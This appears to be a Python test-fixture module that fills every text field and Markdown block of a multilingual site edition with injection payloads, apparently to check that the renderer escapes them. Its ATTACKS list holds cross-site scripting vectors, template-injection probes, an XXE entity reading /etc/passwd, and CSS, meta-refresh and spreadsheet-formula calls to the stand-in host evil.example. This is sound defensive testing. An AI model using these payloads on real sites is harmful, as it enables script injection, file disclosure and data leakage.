"""Editions in which every text is an attack: each text field of each kind of file, as declared, and the Markdown.

A field that is added to the schema is attacked by itself. Each attack has a number: a script that runs says it, and
what is asked of another host has it in its address.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from itertools import count
from pathlib import Path
from typing import Any

import editions
from tahqiq.schema import fields as shapes
from tahqiq.schema.files import FILE_SHAPES

LANGUAGES = ("ar", "en", "fa")
HOST = "evil.example"
HIT = "window.__hit&&__hit({n})"
ATTACKS = (
    "<script>" + HIT + "</script>",
    "</script><script>" + HIT + "</script>",
    "</title></style></textarea></noscript><img src=x onerror={js}>",
    "<img src=//" + HOST + "/{n}.png onerror='" + HIT + "'>",
    "\"><svg onload='" + HIT + "'>",
    "' autofocus onfocus='" + HIT + "' x='",
    '" onmouseover="' + HIT + '" style="position:fixed;inset:0" x="',
    "<a href='javascript:" + HIT + "'>click</a>",
    "<iframe srcdoc='<script>parent." + HIT + "</script>'></iframe>",
    "<style>@import '//" + HOST + "/{n}.css';*{{background:url(//" + HOST + "/{n})}}</style>",
    "}}</style><link rel=stylesheet href=//" + HOST + "/{n}.css>",
    "<!--> <!--<script>" + HIT + "</script>--> --> ]]><x/>",
    "<math><mtext></p><mglyph><style><img src onerror='" + HIT + "'>",
    "&lt;script&gt;" + HIT + "&lt;/script&gt; &#60;script>" + HIT + "</script>",
    "<base href=//" + HOST + "/><meta http-equiv=refresh content='0;url=//" + HOST + "/{n}'>",
    "<object data=//" + HOST + "/{n}><embed src=//" + HOST + "/{n}><video poster=//" + HOST + "/{n}>",
    "{{{{ self.__init__.__globals__ }}}}{{% include '/etc/passwd' %}}${{7*7}}<%= 7*7 %>#{{7*7}}",
    '\\"}},{{"x":"</script><script>' + HIT + "</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e; <xi:include href='//"
    + HOST
    + "/{n}'/>",
    '=HYPERLINK("http://' + HOST + '/{n}","x")',
    "}}, @article{{evil{n}, title = {{x}} }} ER  - TY  - JOUR",
    "[x](javascript:" + HIT + ") ![x](//" + HOST + "/{n}.png) <javascript:" + HIT + ">",
    "<template><script>"
    + HIT
    + "</script></template><form action=//"
    + HOST
    + "/{n}><button formaction=//"
    + HOST
    + "/{n}>",
    "\u2028<script>" + HIT + "</script>\u2029\ufeff\u00ad",
)
"""Texts with `{n}` for the attack's number; other braces are doubled, as for `str.format`."""
PICTURE = "dot.gif"
ONE_PIXEL = bytes.fromhex(
    "47494638396101000100800000ffffff00000021f90400000000002c00000000010001000002024401003b"
)


class Attacker:
    """Gives attacks in turn, beginning at one of them."""

    def __init__(self, first: int, refused: frozenset[int] = frozenset()) -> None:
        self._numbers = count(first)
        self._refused = refused

    def text(self) -> str:
        """The next attack."""
        n = next(n % len(ATTACKS) for n in self._numbers if n % len(ATTACKS) not in self._refused)
        return attack(n)

    def prose(self) -> str:
        """One for a text, where it stands in a line."""
        return self.text().replace("\n", " ")

    def address(self) -> str:
        """An address that is an attack."""
        return f"https://{HOST}/?\"'><script>{HIT.format(n=99)}</script>"

    def localised(self) -> dict[str, str]:
        """One in each language."""
        return {tag: self.text() for tag in LANGUAGES}

    def value(self, shape: Any, example: Any, known: Mapping[str, str]) -> Any:
        """What a shape holds: attacks where it holds texts, else its example. `known` are ids of things by kind."""
        match shape:
            case shapes.Line(pattern=""):
                return self.text()
            case shapes.Localised() | shapes.NameOrLocalised():
                return self.localised()
            case shapes.Choice():
                return shape.values[0]
            case shapes.Dates():
                return "2020-01-02"
            case shapes.Url():
                return self.address()
            case shapes.Reference():
                return known[shape.to[0]]
            case shapes.BlockReference():
                return f"{known['article']}#p1"
            case shapes.Listing():
                return [self.value(shape.item, example[0] if example else None, known)]
            case shapes.Table(key=shapes.LanguageTag()):
                inner = example.get("en") if isinstance(example, dict) else None
                return {tag: self.value(shape.value, inner, known) for tag in LANGUAGES}
            case shapes.Record():
                return self.record(shape, known)
        return example

    def record(self, shape: shapes.Record, known: Mapping[str, str]) -> dict[str, Any]:
        """All keys of a record, but of those of which only one may stand the first."""
        without = {key for group in shape.one_of for key in group[1:]}
        return {
            name: self.value(field.shape, field.examples[0] if field.examples else None, known)
            for name, field in shape.fields.items()
            if name not in without
        }


def attack(n: int) -> str:
    """One attack, with its number."""
    return ATTACKS[n].format(n=n, js=HIT.format(n=n))


def texts(value: Any) -> Iterator[str]:
    """All texts in a value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for inner in value.values():
            yield from texts(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from texts(inner)


def write(folder: Path, rounds: int, refused: frozenset[int] = frozenset()) -> Path:
    """An edition of so many things of each kind, each with other attacks, without those that the check refuses."""
    made = files(lambda first: Attacker(first, refused), rounds)
    (folder / "content").mkdir(parents=True, exist_ok=True)
    (folder / "mkdocs.yml").write_text(editions.parse(editions.base())[0][3], encoding="utf-8")
    for name, text in made.items():
        path = folder / "content" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text)
    return folder


def files(attacker: Callable[[int], Attacker], rounds: int) -> dict[str, bytes]:
    """The files of such an edition, by their path in the content folder; `attacker` is given where it begins."""
    edition = attacker(0).record(FILE_SHAPES["edition"], {})
    edition |= {"languages": list(LANGUAGES), "licence": {"text": "CC-BY-4.0", "data": "CC0-1.0"}}
    edition["repository"] = {"url": "https://github.com/little/little"}
    files: dict[str, Any] = {"edition.yml": edition}
    for n in range(rounds):
        known = {"actor": f"a{n}", "term": f"t{n}", "event": f"e{n}", "article": f"v{n}"}
        by = attacker(n * (len(ATTACKS) // rounds + 1))
        files[f"actors/a{n}.yml"] = _actor(by, known)
        files[f"terms/t{n}.yml"] = {**by.record(FILE_SHAPES["term"], known), "formerly": [f"was-t{n}"]}
        event = by.record(FILE_SHAPES["event"], known)
        files[f"events/e{n}.yml"] = {**event, "place": "place", "formerly": [f"was-e{n}"]}
        files[f"articles/v{n}/article.yml"] = _article(by, known)
        for tag in LANGUAGES:
            files[f"articles/v{n}/{tag}.md"] = _text(by, known)
        files[f"articles/v{n}/{PICTURE}"] = ONE_PIXEL
    files["actors/place.yml"] = {"kind": "place", "name": attacker(5).localised()}
    for tag in LANGUAGES:
        by = attacker(len(tag))
        files[f"pages/about/{tag}.md"] = f"# {_escaped(by.prose())}\n\n{{#p1}}\n{_escaped(by.prose())}\n"
    return {name: _bytes(value) for name, value in files.items()}


def _actor(by: Attacker, known: Mapping[str, str]) -> dict[str, Any]:
    made = by.record(FILE_SHAPES["actor"], known)
    made |= {"kind": "person", "formerly": [f"was-{known['actor']}"], "identifiers": {"wikidata": "Q1"}}
    made["memberships"] = [{"of": "place", "role": by.localised(), "source": f"{known['article']}#p1"}]
    return made


def _article(by: Attacker, known: Mapping[str, str]) -> dict[str, Any]:
    made = by.record(FILE_SHAPES["article"], known)
    made["source"] |= {"language": "ar", "rights": "open", "archived": made["source"]["url"]}
    made["texts"] = {
        "ar": {"kind": "original", "by": by.localised()},
        "en": {"kind": "translation", "of": "ar", "by": by.text()},
        "fa": {"kind": "translation", "of": "ar", "by": by.localised()},
    }
    quote = by.record(FILE_SHAPES["article"].fields["quotes"].shape.value, known)  # type: ignore[union-attr]
    quote |= {"about": [known["actor"], known["term"], known["event"]], "stance": {known["term"]: "supports"}}
    made["quotes"] = {"q1": {**quote, "mode": "indirect"}, "q2": {**quote, "mode": "direct"}}
    made["corrections"] = [{"date": "2021-01-01", "block": "p1", "removed": ["p7"], "text": by.localised()}]
    made["moved"] = {"p8": "p1", "q-was": "q-q1"}
    made["formerly"] = [f"was-{known['article']}"]
    del made["silenced"]
    return made


def _text(by: Attacker, known: Mapping[str, str]) -> str:
    """A text with every kind of block and span, attacks in all of them."""
    a, t, e = (known[kind] for kind in ("actor", "term", "event"))
    p = [_escaped(by.prose()) for _ in range(19)]
    return (
        f"{{#p1}}\n{p[0]} [{p[1]}]{{actor={a}}} *{p[2]}*[^1]\n\n"
        f"{{#p2}}\n[{p[3]} [{p[4]}]{{term={t}}}]{{quote=q1}} [[{p[5]}]{{event={e}}}]{{date=2020-01-01}}\n\n"
        f"{{#h1}}\n## {p[6]}\n\n{{#p3}}\n[“{p[7]}”]{{quote=q2}} [{p[8]}](https://{HOST}/%22onmouseover=x)\n\n"
        f"{{#l1}}\n- {p[9]}\n\n{{#b1}}\n> {p[10]}\n\n{{#c1}}\n```\n{by.prose()}\n```\n\n"
        f"{{#i1}}\n![{p[12]}]({PICTURE} \"{p[13]}\") [{p[14]}](https://{HOST}/ '{p[15]}')\n\n"
        f"{{#a1}}\n| {p[16]} | x |\n|---|---|\n| {p[17]} | |\n\n{{#c2}}\n~~~ {p[18]}\nx\n~~~\n\n"
        f"[^1]: {p[11]}\n"
    )


def _escaped(text: str) -> str:
    """A text as Markdown that says just that."""
    return "".join(f"\\{c}" if c in "\\`*_{}[]()#+-.!<>&\"'|~=@$%^:;,/?" else c for c in text)


def _bytes(value: Mapping[str, Any] | str | bytes) -> bytes:
    if isinstance(value, bytes):
        return value
    return (value if isinstance(value, str) else _record(value)).encode()


def _record(value: Mapping[str, Any]) -> str:
    """A record as YAML: JSON is YAML of one line, but that YAML 1.1 has two more ends of lines."""
    lines = (f"{key}: {json.dumps(inner, ensure_ascii=False)}\n" for key, inner in value.items())
    return "".join(lines).replace("\u2028", "\\u2028").replace("\u2029", "\\u2029")
